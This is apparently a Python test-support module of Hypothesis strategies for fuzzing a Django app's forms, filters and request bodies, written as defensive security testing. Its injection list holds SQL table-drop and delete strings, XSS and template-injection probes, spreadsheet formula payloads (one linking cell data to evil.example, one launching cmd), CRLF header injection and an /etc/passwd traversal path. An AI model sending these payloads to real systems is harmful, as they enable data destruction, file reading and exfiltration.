"""Hypothesis strategies for what a browser, a phone's outbox or an attacker may post.

Each field of a real form gets either a value its form field accepts (from
`hypothesis.extra.django.from_field`, so that the fuzzer gets past validation into the
writes) or something hostile: any unicode, NUL, strings of 10,000 characters and more,
numbers where text goes and text where numbers go, malformed dates, several values where
one is expected, a file, or the id of another organization's object.
"""

from __future__ import annotations

import datetime as dt
import operator
import os
from collections.abc import Iterable
from typing import Any
from urllib.parse import quote_from_bytes

from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Model
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.errors import HypothesisException
from hypothesis.extra.django import from_field

# A value as the test client posts it: text, several texts under one name, or a file.
Value = str | list[str] | SimpleUploadedFile

# Examples per test. The suite runs a few dozen each; FUZZ_EXAMPLES=1000 digs deeper.
EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "10"))
FUZZ = settings(
    max_examples=EXAMPLES,
    # A request renders a page: slower than Hypothesis expects of a unit test, and the
    # machine is shared.
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

INJECTIONS = [
    "'; DROP TABLE contacts_contact; --",
    "Robert'); DELETE FROM buildings_building WHERE ('1'='1",
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% static '../settings.py' %}",
    "<script>alert(1)</script>",
    '" onmouseover="x',
    "' onfocus='x",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\r\nCRLF\r\nX-Injected: 1",
    "%00",
    "%s%s%s%n",
    "../../../../etc/passwd",
]
ODD_TEXT = [
    "",
    " ",
    "\x00",
    "Maria\x00Lopez",
    "\u202eevil\u202c",
    "\ufeff",
    "\u200b",
    "\N{MATHEMATICAL DOUBLE-STRUCK CAPITAL M}aria",
    "ﷺ",
    "Z̴̡̢͎a̸l̶g̷o̵",
    "👩🏽‍👩🏽‍👧🏽",
    "\x7f\x1b[31m",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
]
NUMBERS = [
    "0",
    "-1",
    "1.5",
    "1e999",
    "NaN",
    "-inf",
    "0x10",
    "1_000",
    "\N{FULLWIDTH DIGIT NINE}",
    "٣",
    "²",
    "9" * 40,
    "-" + "9" * 40,
    "2147483648",
    "32768",
    "-32769",
    "9223372036854775808",
]
DATES = [
    "2024-02-30",
    "2023-02-29",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2024-13-01",
    "2024-00-10",
    "31/12/2024",
    "12/31/2024",
    "2024-1-1",
    "tomorrow",
    "2024-02-30T10:00:00Z",
    "2024-06-01T25:61:61Z",
    "2024-06-01T10:00:00+99:00",
    "2024-06-01T10:00:00+24:00",
    "2024-06-01T10:00:00-2400",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "2024-06-01T10:00:00",
    "2024-06-01 10:00:00.123456789+00:00",
]


def _huge() -> st.SearchStrategy[str]:
    """10,000 characters and more; a few of them are past every limit of ours."""
    return st.builds(
        operator.mul,
        st.sampled_from(
            [
                "a",
                "é",
                "\N{MATHEMATICAL DOUBLE-STRUCK CAPITAL X}",
                "<",
                "9",
                " ",
                "\x00",
                "{{ 7*7 }}",
                "\n",
            ]
        ),
        st.integers(10_001, 60_000),
    )


def _text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(INJECTIONS + ODD_TEXT),
        st.text(max_size=60),
        st.sampled_from(NUMBERS),
        st.integers(-(2**70), 2**70).map(str),
        _dates(),
        _huge(),
    )


def _dates() -> st.SearchStrategy[str]:
    """Dates and times as text: well formed or nearly, real or not."""
    return st.one_of(
        st.sampled_from(DATES),
        st.dates(dt.date(1, 1, 1), dt.date(9999, 12, 31)).map(dt.date.isoformat),
        st.datetimes(timezones=st.timezones()).map(dt.datetime.isoformat),
    )


def _file() -> st.SearchStrategy[SimpleUploadedFile]:
    return st.builds(
        SimpleUploadedFile,
        st.sampled_from(["people.csv", "../../x.csv", "x\x00.csv", "é.xlsx", ""]).filter(bool),
        st.binary(max_size=300),
        st.sampled_from(["text/csv", "application/octet-stream", "text/html"]),
    )


def hostile(foreign_ids: Iterable[int]) -> st.SearchStrategy[Value]:
    """Anything at all, or the id of another organization's object."""
    foreign = st.sampled_from(sorted(foreign_ids)).map(str)
    single = st.one_of(_text(), foreign)
    return st.one_of(single, st.lists(single, min_size=2, max_size=4), _file())


def as_post(value: Any) -> Value:
    """A Python value as the browser would have sent it."""
    if value is None or value is False:
        return ""
    if value is True:
        return "on"
    if isinstance(value, SimpleUploadedFile):
        return value
    if isinstance(value, Model):
        return str(value.pk)
    if isinstance(value, list | tuple | set):
        return [str(as_post(item)) for item in value]
    if isinstance(value, dt.date):
        return value.isoformat()
    choice_value = getattr(value, "value", value)  # ModelChoiceIteratorValue
    return str(choice_value)


def acceptable(field: forms.Field, foreign_ids: Iterable[int]) -> st.SearchStrategy[Value] | None:
    """A value this form field accepts, or None when Hypothesis can't make one. A choice of
    objects may also get another organization's: a choice that lets it through is a leak."""
    if isinstance(field, forms.ModelChoiceField):
        queryset = field.queryset
        pks = sorted(queryset.values_list("pk", flat=True)) if queryset is not None else []
        if not pks:
            return None
        one = st.one_of(st.sampled_from(pks), st.sampled_from(sorted(foreign_ids))).map(str)
        if isinstance(field, forms.ModelMultipleChoiceField):
            return st.lists(one, max_size=3, unique=True)
        return one
    try:
        strategy = from_field(field)
    except HypothesisException:
        return None
    if isinstance(field, forms.DateField):
        # Near today, where the rules about the past and the next 90 days bite.
        near = st.integers(-3, 120).map(lambda days: dt.date.today() + dt.timedelta(days=days))
        return st.one_of(strategy.map(as_post), near.map(as_post), _dates())
    return strategy.map(as_post)


def form_fields(
    forms_: Iterable[forms.BaseForm], foreign_ids: Iterable[int]
) -> dict[str, st.SearchStrategy[Value] | None]:
    """The POST names of these forms, each with a value its field accepts (None when
    Hypothesis can't make one)."""
    return {
        form.add_prefix(name): acceptable(field, foreign_ids)
        for form in forms_
        for name, field in form.fields.items()
    }


@st.composite
def post_data(
    draw: st.DrawFn,
    fields: dict[str, st.SearchStrategy[Value] | None],
    foreign_ids: Iterable[int],
) -> dict[str, Value]:
    """A submission that is mostly right: a few fields spoilt, a few left out, now and then
    a field nobody asked for. A submission wrong everywhere stops at the first check;
    one wrong field gets to the code after it."""
    bad = hostile(foreign_ids)
    names = sorted(fields)
    spoilt = draw(st.sets(st.sampled_from(names))) if names else set()
    left_out = draw(st.sets(st.sampled_from(names))) if names else set()
    data = {}
    for name in names:
        good = fields[name]
        if name not in left_out:
            data[name] = draw(bad if name in spoilt or good is None else good)
    junk_names = st.one_of(st.text(min_size=1, max_size=20), st.just("csrfmiddlewaretoken"))
    return draw(st.dictionaries(junk_names, bad, max_size=2)) | data


HEADERS: list[dict[str, str]] = [
    {},
    {"HTTP_HX_REQUEST": "true"},
    {"HTTP_X_DOORSTEP_REPLAY": "1", "HTTP_ACCEPT": "application/json"},
    {"HTTP_HX_REQUEST": "true", "HTTP_X_DOORSTEP_REPLAY": "1"},
    {"HTTP_REFERER": "https://evil.example/"},
    {"HTTP_REFERER": "/contacts/1/\x00"},
]
QUERY_NAMES = [
    "q",
    "page",
    "building",
    "owner",
    "level",
    "state",
    "orphaned",
    "archived",
    "due",
    "select",
    "unit",
    "next",
]


def query(foreign_ids: Iterable[int]) -> st.SearchStrategy[dict[str, str | list[str]]]:
    """A query string as the filters of our list screens read it, or as anyone may type it."""
    value = st.one_of(
        st.sampled_from(["\x00", "1", "0", *INJECTIONS, *ODD_TEXT, *NUMBERS]),
        st.text(max_size=60),
        _dates(),
        st.sampled_from(sorted(foreign_ids)).map(str),
    )
    return st.dictionaries(
        st.one_of(st.sampled_from(QUERY_NAMES), st.text(min_size=1, max_size=10)),
        st.one_of(value, st.lists(value, min_size=2, max_size=3)),
        max_size=4,
    )


def raw_body(names: Iterable[str]) -> st.SearchStrategy[bytes]:
    """An urlencoded body of bytes that need not be UTF-8: a lone surrogate as CESU-8 writes
    it, a cut multi-byte character, NUL. A browser can send these; the test client, which
    encodes text, can't."""
    name = st.one_of(st.sampled_from(sorted(names) or ["x"]).map(str.encode), st.binary(max_size=8))
    value = st.one_of(
        st.binary(max_size=40),
        st.sampled_from([b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xc3", b"\xff\xfe", b"\x00", b"%"]),
    )
    pair = st.builds(lambda k, v: f"{quote_from_bytes(k)}={quote_from_bytes(v)}", name, value)
    return st.lists(pair, max_size=6).map(lambda pairs: "&".join(pairs).encode())
